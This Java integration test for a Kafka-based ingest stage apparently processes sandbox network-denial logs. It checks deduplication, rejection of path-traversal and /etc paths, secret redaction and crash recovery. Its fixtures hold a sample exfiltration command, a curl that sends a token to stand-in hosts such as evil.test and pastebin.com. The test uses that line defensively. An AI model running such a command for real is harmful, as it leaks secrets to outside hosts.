package dev.knockwatch.ingest;

import dev.knockwatch.events.WritableTopics;
import static org.assertj.core.api.Assertions.assertThat;

import dev.knockwatch.broker.EmbeddedKafkaBroker;
import dev.knockwatch.events.Json;
import dev.knockwatch.events.RejectedLine;
import dev.knockwatch.events.Topics;
import dev.knockwatch.events.ViolationEvent;
import dev.knockwatch.testkit.EmbeddedKafkaExtension;
import dev.knockwatch.testkit.TopicReader;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.AdminClientConfig;
import org.apache.kafka.clients.admin.NewTopic;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.clients.producer.RecordMetadata;
import org.apache.kafka.common.serialization.StringSerializer;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code ingest --raw-topic}'s stage against a real broker: the lines of the layout's files, as a
 * shipper carries them, give the events the agent gives; a line delivered twice keeps its id; a
 * path outside the layout and a record that is no raw line are rejected with their reasons; and a
 * kill -9 of the stage mid-stream loses nothing and counts nothing twice.
 */
@Tag("integration")
@ExtendWith(EmbeddedKafkaExtension.class)
class RawTopicIngestTest {

  @TempDir Path logs;

  static String srtRecord(String commandId, String host, int i) {
    return "{\"line\":\"deny network-outbound " + host + ":443 (host is not on the allow list)\","
        + "\"commandId\":\"" + commandId + "\",\"command\":\"curl -s https://" + host + "/?token=SECRET&i=" + i + "\","
        + "\"timestamp\":\"2026-12-04T00:00:0" + (i % 10) + ".000Z\"}";
  }

  static void createTopic(EmbeddedKafkaBroker broker, String topic) throws Exception {
    try (Admin admin = Admin.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, broker.bootstrapServers()))) {
      WritableTopics.create(admin, List.of(new NewTopic(topic, 3, (short) 1)));
    }
  }

  static KafkaProducer<String, String> shipper(EmbeddedKafkaBroker broker) {
    return new KafkaProducer<>(Map.of(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, broker.bootstrapServers(),
        ProducerConfig.LINGER_MS_CONFIG, 5), new StringSerializer(), new StringSerializer());
  }

  /** Every line of {@code file} as a shipper with offsets sends it (Vector's shape), keyed by its path. */
  static void ship(KafkaProducer<String, String> shipper, String topic, Path file, String host) throws IOException {
    ship(shipper, topic, file, host, true);
  }

  /** As {@link #ship}; without the empty lines where {@code empty} is false (rsyslog sends none). */
  static void ship(KafkaProducer<String, String> shipper, String topic, Path file, String host, boolean empty)
      throws IOException {
    byte[] bytes = Files.readAllBytes(file);
    String path = file.toAbsolutePath().toString();
    int start = 0;
    for (int i = 0; i <= bytes.length; i++) {
      if (i == bytes.length || bytes[i] == '\n') {
        if (i > start || i < bytes.length) {
          String line = new String(bytes, start, i - start, StandardCharsets.UTF_8);
          if (line.endsWith("\r")) {
            line = line.substring(0, line.length() - 1);
          }
          if (!(i == bytes.length && line.isEmpty()) && (empty || !line.isEmpty())) {
            shipper.send(new ProducerRecord<>(topic, path, "{\"message\":" + Hostile.json(line) + ",\"file\":"
                + Hostile.json(path) + ",\"host\":\"" + host + "\",\"offset\":" + start + "}"));
          }
        }
        start = i + 1;
      }
    }
    shipper.flush();
  }

  static RawTopicIngest stage(EmbeddedKafkaBroker broker, String topic, String id, Path root) {
    return new RawTopicIngest(broker.bootstrapServers(), Map.of(), topic, "raw-test-" + id, "raw-test-tx-" + id,
        root.toAbsolutePath().toString(), Clock.systemUTC());
  }

  /** What an event says, but its id and the times ingest read it (the agent and the stage read at other times). */
  static String said(ViolationEvent e) {
    return said(e, true) + "|" + e.origin().ingestHost();
  }

  /** As {@link #said(ViolationEvent)} without the host; without the line's offset where {@code offsets} is false (a shipper that has none). */
  static String said(ViolationEvent e, boolean offsets) {
    return String.join("|", e.commandId(), String.valueOf(e.agentId()), String.valueOf(e.source()),
        String.valueOf(e.host()), String.valueOf(e.port()), String.valueOf(e.path()), String.valueOf(e.reason()),
        // a line's own time; one without takes the ingest clock's (the time source says which)
        e.timeSource() == null ? String.valueOf(e.observedAt()) : e.timeSource(), String.valueOf(e.commandText()), e.origin().file() + (offsets ? ":" + e.origin().offset() : ""),
        String.valueOf(e.identityConflict()));
  }

  void copy(String resource, Path to) throws IOException {
    Files.createDirectories(to.getParent());
    try (InputStream in = getClass().getResourceAsStream(resource)) {
      Files.copy(in, to);
    }
  }

  @Test
  void theLinesAShipperCarriesGiveTheEventsTheAgentGivesForTheSameFiles(EmbeddedKafkaBroker broker) throws Exception {
    String srt = "RawSameAsAgent00000001";
    String curl = "RawSameAsAgent00000002";
    String strace = "RawSameAsAgent00000003";
    Path dir = Files.createDirectories(logs.resolve("raw-agent"));
    Files.writeString(dir.resolve(srt + ".violations.jsonl"), srtRecord(srt, "evil.test", 1) + "\n"
        + srtRecord(srt, "pastebin.com", 2) + "\n" + "not json at all\n" + srtRecord("short", "x.test", 3) + "\n");
    copy("/dev/knockwatch/ingest/formats/proxy/samples/srt-0.0.83-curl-7.88.1-b-https-connect-curl-v.txt", dir.resolve(curl + ".stderr.log"));
    copy("/dev/knockwatch/ingest/formats/strace/samples/strace-6.1-srt-0.0.83-g4-in-srt-fs-denials.txt", dir.resolve(strace + ".strace"));
    Set<String> ids = Set.of(srt, curl, strace);

    ListSink agentSink = new ListSink();
    IngestAgent agent = LogLayout.forLogDirectory(logs, p -> true, null, agentSink, "host-a", Duration.ZERO).wholeFiles();
    while (agent.pollOnce() > 0) {
      // every file, to its end
    }
    List<String> byAgent = agentSink.events.stream().filter(e -> ids.contains(e.commandId()))
        .map(RawTopicIngestTest::said).sorted().toList();
    assertThat(byAgent).hasSizeGreaterThan(3);
    assertThat(agentSink.rejected).extracting(RejectedLine::code).containsExactly("unparseable");

    String topic = "raw-same-as-agent";
    createTopic(broker, topic);
    try (KafkaProducer<String, String> shipper = shipper(broker)) {
      for (Path f : Files.list(dir).sorted().toList()) {
        ship(shipper, topic, f, "host-a");
      }
    }
    try (RawTopicIngest stage = stage(broker, topic, "same", logs)) {
      Thread t = new Thread(stage, "raw-test");
      t.start();
      List<ConsumerRecord<String, ViolationEvent>> got = TopicReader.readUntil(broker, Topics.VIOLATIONS.name(),
          Json.serde(ViolationEvent.class).deserializer(), r -> ids.contains(r.key()), byAgent.size());
      List<String> byStage = got.stream().map(r -> said(r.value())).sorted().toList();
      assertThat(byStage).isEqualTo(byAgent);
      assertThat(got).allSatisfy(r -> assertThat(String.valueOf(r.value().commandText())).doesNotContain("SECRET"));
      List<ConsumerRecord<String, RejectedLine>> rejected = TopicReader.readUntil(broker, Topics.REJECTED.name(),
          Json.serde(RejectedLine.class).deserializer(), r -> r.key().startsWith("raw-agent/" + srt), 1);
      assertThat(rejected).extracting(r -> r.value().code()).containsExactly("unparseable");
      assertThat(rejected).extracting(r -> r.value().ingestHost()).containsOnly("host-a");
    }
  }

  @Test
  void aRawAnswerShippedWithoutItsEmptyLinesGivesTheAgentsEvent(EmbeddedKafkaBroker broker) throws Exception {
    String id = "RawNoEmptyLines0000001";
    Path dir = Files.createDirectories(logs.resolve("raw-empty"));
    copy("/dev/knockwatch/ingest/formats/proxy/samples/srt-0.0.83-curl-7.88.1-b3-connect-raw-403.bin", dir.resolve(id + ".stderr.log"));
    // as LF lines: a CRLF file's empty line is "\r", which rsyslog sends
    Path file = dir.resolve(id + ".stderr.log");
    Files.writeString(file, Files.readString(file).replace("\r\n", "\n"));
    assertThat(Files.readString(file)).contains("\n\n");
    ListSink agentSink = new ListSink();
    IngestAgent agent = LogLayout.forLogDirectory(logs, p -> p.toString().contains("raw-empty"), null, agentSink,
        "host-a", Duration.ZERO).wholeFiles();
    while (agent.pollOnce() > 0) {
      // to the end
    }
    // the same refusal, once; its origin is another line of the same answer (the agent's ends at the empty line)
    List<String> byAgent = agentSink.events.stream().map(e -> said(e, false)).sorted().toList();
    assertThat(byAgent).isNotEmpty();
    String topic = "raw-no-empty-lines";
    createTopic(broker, topic);
    try (KafkaProducer<String, String> shipper = shipper(broker)) {
      ship(shipper, topic, dir.resolve(id + ".stderr.log"), "host-a", false);
    }
    try (RawTopicIngest stage = stage(broker, topic, "no-empty", logs)) {
      new Thread(stage, "raw-test").start();
      List<ConsumerRecord<String, ViolationEvent>> got = TopicReader.readUntil(broker, Topics.VIOLATIONS.name(),
          Json.serde(ViolationEvent.class).deserializer(), r -> id.equals(r.key()), byAgent.size());
      Thread.sleep(1_000); // a second event, had the answer been ended twice
      got = TopicReader.readToEnd(broker, Topics.VIOLATIONS.name(), Json.serde(ViolationEvent.class).deserializer(),
          r -> id.equals(r.key()));
      assertThat(got.stream().map(r -> said(r.value(), false)).sorted().toList()).isEqualTo(byAgent);
    }
  }

  @Test
  void aLineDeliveredTwiceKeepsItsIdAndWhatIsNoRawLineOfTheLayoutIsRejectedWithWhy(EmbeddedKafkaBroker broker)
      throws Exception {
    String id = "RawTwiceAndOutside0001";
    String topic = "raw-twice-outside";
    createTopic(broker, topic);
    Path root = logs.resolve("root");
    String path = root.toAbsolutePath() + "/agent-t/" + id + ".violations.jsonl";
    String line = srtRecord(id, "evil.test", 1);
    String ok = "{\"msg\":" + Hostile.json(line) + ",\"filename\":\"" + path + "\",\"fileoffset\":\"0\",\"hostname\":\"h1\"}";
    // without an offset (syslog-ng) the line's content makes the id
    String noOffset = "{\"MESSAGE\":" + Hostile.json(srtRecord(id, "bit.ly", 2)) + ",\"FILE_NAME\":\"" + path
        + "\",\"HOST\":\"h1\"}";
    String escapes = "{\"line\":" + Hostile.json(srtRecord(id, "evil.test", 3)) + ",\"path\":\"" + root.toAbsolutePath()
        + "/agent-t/../agent-other/" + id + ".violations.jsonl\",\"offset\":5}";
    String elsewhere = "{\"line\":" + Hostile.json(srtRecord(id, "evil.test", 4)) + ",\"path\":\"/etc/" + id
        + ".violations.jsonl\",\"offset\":6}";
    try (KafkaProducer<String, String> shipper = shipper(broker)) {
      for (String v : List.of(ok, ok, noOffset, noOffset, escapes, elsewhere, "not json")) {
        shipper.send(new ProducerRecord<>(topic, path, v));
      }
    }
    try (RawTopicIngest stage = stage(broker, topic, "twice", root)) {
      new Thread(stage, "raw-test").start();
      List<ConsumerRecord<String, ViolationEvent>> got = TopicReader.readUntil(broker, Topics.VIOLATIONS.name(),
          Json.serde(ViolationEvent.class).deserializer(), r -> id.equals(r.key()), 4);
      assertThat(got).hasSize(4);
      Map<String, Long> byId = got.stream().collect(Collectors.groupingBy(r -> r.value().eventId(), Collectors.counting()));
      assertThat(byId.values()).containsExactly(2L, 2L); // each line twice, under one id each time
      assertThat(got).extracting(r -> r.value().agentId()).containsOnly("agent-t");
      assertThat(got).extracting(r -> r.value().host()).containsOnly("evil.test", "bit.ly");
      List<ConsumerRecord<String, RejectedLine>> rejected = TopicReader.readUntil(broker, Topics.REJECTED.name(),
          Json.serde(RejectedLine.class).deserializer(), r -> r.value().reason() != null
              && (r.value().line() != null && r.value().line().contains(id) || r.key().startsWith("raw:" + topic)), 3);
      assertThat(rejected).extracting(r -> r.value().code())
          .containsExactlyInAnyOrder("outside-layout", "outside-layout", "raw-record");
      assertThat(rejected).filteredOn(r -> r.value().code().equals("raw-record"))
          .extracting(r -> r.value().reason()).containsExactly("the value is not JSON");
      // nothing of a path outside the layout is taken for an agent or a command
      assertThat(got).noneMatch(r -> "agent-other".equals(r.value().agentId()));
    }
  }

  @Test
  void twoInstancesInOneGroupShareThePartitionsAndReadEveryLineOnce(EmbeddedKafkaBroker broker) throws Exception {
    String topic = "raw-two-instances";
    createTopic(broker, topic);
    Path root = logs.resolve("two");
    List<String> ids = new ArrayList<>();
    for (int c = 0; c < 30; c++) {
      ids.add(String.format("RawTwoInstances%07d", c));
    }
    Set<String> idSet = Set.copyOf(ids);
    int lines = 3_000;
    RawTopicIngest first = new RawTopicIngest(broker.bootstrapServers(), Map.of(), topic, "raw-test-two",
        "raw-test-two-a", root.toAbsolutePath().toString(), Clock.systemUTC());
    RawTopicIngest second = new RawTopicIngest(broker.bootstrapServers(), Map.of(), topic, "raw-test-two",
        "raw-test-two-b", root.toAbsolutePath().toString(), Clock.systemUTC());
    try (first; second; KafkaProducer<String, String> shipper = shipper(broker)) {
      new Thread(first, "raw-test-a").start();
      long[] offsets = new long[ids.size()];
      for (int i = 0; i < lines; i++) {
        if (i == lines / 3) {
          new Thread(second, "raw-test-b").start(); // joins mid-stream: the partitions are shared out again
        }
        int c = i % ids.size();
        String line = srtRecord(ids.get(c), "t" + i + ".evil.test", i);
        String path = root.toAbsolutePath() + "/agent-two/" + ids.get(c) + ".violations.jsonl";
        shipper.send(new ProducerRecord<>(topic, path, "{\"line\":" + Hostile.json(line) + ",\"path\":\"" + path
            + "\",\"offset\":" + offsets[c] + "}"));
        offsets[c] += line.length() + 1;
        if (i % 100 == 0) {
          shipper.flush();
          Thread.sleep(150); // about 4.5 s of lines: the second joins, and takes its share, meanwhile
        }
      }
      shipper.flush();
      TopicReader.readUntil(broker, Topics.VIOLATIONS.name(), Json.serde(ViolationEvent.class).deserializer(),
          r -> idSet.contains(r.key()), lines);
      Thread.sleep(1_000);
      List<ConsumerRecord<String, ViolationEvent>> got = TopicReader.readToEnd(broker, Topics.VIOLATIONS.name(),
          Json.serde(ViolationEvent.class).deserializer(), r -> idSet.contains(r.key()));
      assertThat(got).as("every line once").hasSize(lines);
      assertThat(got.stream().map(r -> r.value().eventId()).distinct().count()).isEqualTo(lines);
      assertThat(first.committedTransactions()).as("the first instance's transactions").isPositive();
      assertThat(second.committedTransactions()).as("the second instance's transactions").isPositive();
    }
  }

  @Test
  void aKillNineOfTheStageMidStreamLosesNothingAndCountsNothingTwice(EmbeddedKafkaBroker broker) throws Exception {
    String topic = "raw-kill-nine";
    createTopic(broker, topic);
    Path root = logs.resolve("k9");
    int commands = 20;
    int perWave = 100;
    int waves = 60;
    List<String> ids = new ArrayList<>();
    for (int c = 0; c < commands; c++) {
      ids.add(String.format("RawKillNine%011d", c));
    }
    Set<String> idSet = Set.copyOf(ids);
    long[] offsets = new long[commands];
    Thread shipping;
    List<Future<RecordMetadata>> shipped = java.util.Collections.synchronizedList(new ArrayList<>());
    Process first = child(broker, topic, root);
    Process second = null;
    try (KafkaProducer<String, String> shipper = shipper(broker)) {
      shipping = new Thread(() -> {
        for (int w = 0; w < waves; w++) {
          for (int i = 0; i < perWave; i++) {
            int c = i % commands;
            String line = srtRecord(ids.get(c), "w" + w + ".evil.test", i);
            String path = root.toAbsolutePath() + "/agent-k/" + ids.get(c) + ".violations.jsonl";
            shipped.add(shipper.send(new ProducerRecord<>(topic, path, "{\"line\":" + Hostile.json(line)
                + ",\"path\":\"" + path + "\",\"host\":\"h9\",\"offset\":" + offsets[c] + "}")));
            offsets[c] += line.getBytes(StandardCharsets.UTF_8).length + 1;
          }
          shipper.flush();
          try {
            Thread.sleep(200); // about 12 s of lines: the kill falls in the middle of them
          } catch (InterruptedException e) {
            return;
          }
        }
      });
      shipping.start();
      // its first transaction committed (its group's offsets moved), the stream still going: kill -9
      try (Admin admin = Admin.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, broker.bootstrapServers()))) {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
        while (committedOffsets(admin, "raw-test-k9") == 0 && System.nanoTime() < deadline) {
          Thread.sleep(20);
        }
      }
      assertThat(shipping.isAlive()).as("lines still being shipped at the kill").isTrue();
      first.destroyForcibly().waitFor(30, TimeUnit.SECONDS);
      long atKill = count(broker, idSet);
      assertThat(atKill).as("committed before the kill").isPositive().isLessThan((long) perWave * waves);
      second = child(broker, topic, root);
      shipping.join();
      for (Future<RecordMetadata> f : shipped) {
        f.get(60, TimeUnit.SECONDS); // every line reached the raw topic, or the shipper, not the stage, lost it
      }
    }
    int all = perWave * waves;
    List<ConsumerRecord<String, ViolationEvent>> got = TopicReader.readUntil(broker, Topics.VIOLATIONS.name(),
        Json.serde(ViolationEvent.class).deserializer(), r -> idSet.contains(r.key()), all);
    Thread.sleep(1_000); // anything sent twice has time to be committed
    got = TopicReader.readToEnd(broker, Topics.VIOLATIONS.name(), Json.serde(ViolationEvent.class).deserializer(),
        r -> idSet.contains(r.key()));
    second.destroyForcibly().waitFor(30, TimeUnit.SECONDS);
    Set<String> eventIds = got.stream().map(r -> r.value().eventId()).collect(Collectors.toSet());
    assertThat(eventIds).as("every line once").hasSize(all);
    assertThat(got).as("nothing twice").hasSize(all);
    // one command's lines in their order
    List<Long> firstCommand = got.stream().filter(r -> r.key().equals(ids.get(0)))
        .map(r -> r.value().origin().offset()).toList();
    assertThat(firstCommand).isSortedAccordingTo(Comparator.naturalOrder());
  }

  /** The offsets {@code group} has committed, summed over its partitions. */
  static long committedOffsets(Admin admin, String group) throws Exception {
    return admin.listConsumerGroupOffsets(group).partitionsToOffsetAndMetadata().get(30, TimeUnit.SECONDS).values()
        .stream().filter(java.util.Objects::nonNull).mapToLong(o -> o.offset()).sum();
  }

  static long count(EmbeddedKafkaBroker broker, Set<String> ids) {
    return TopicReader.readToEnd(broker, Topics.VIOLATIONS.name(), Json.serde(ViolationEvent.class).deserializer(),
        r -> ids.contains(r.key())).size();
  }

  /** The stage in a JVM of its own, as a deployment runs it: one transactional id, so a restart fences the killed one. */
  static Process child(EmbeddedKafkaBroker broker, String topic, Path root) throws IOException {
    String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
    return new ProcessBuilder(java, "-Xmx256m", "-cp", System.getProperty("java.class.path"),
        RawStageMain.class.getName(), broker.bootstrapServers(), topic, "raw-test-k9", "raw-test-tx-k9",
        root.toAbsolutePath().toString())
        .redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
  }

  /** What {@link #child} runs. */
  public static final class RawStageMain {
    public static void main(String[] args) {
      new RawTopicIngest(args[0], Map.of(), args[1], args[2], args[3], args[4], Clock.systemUTC()).run();
    }
  }
}
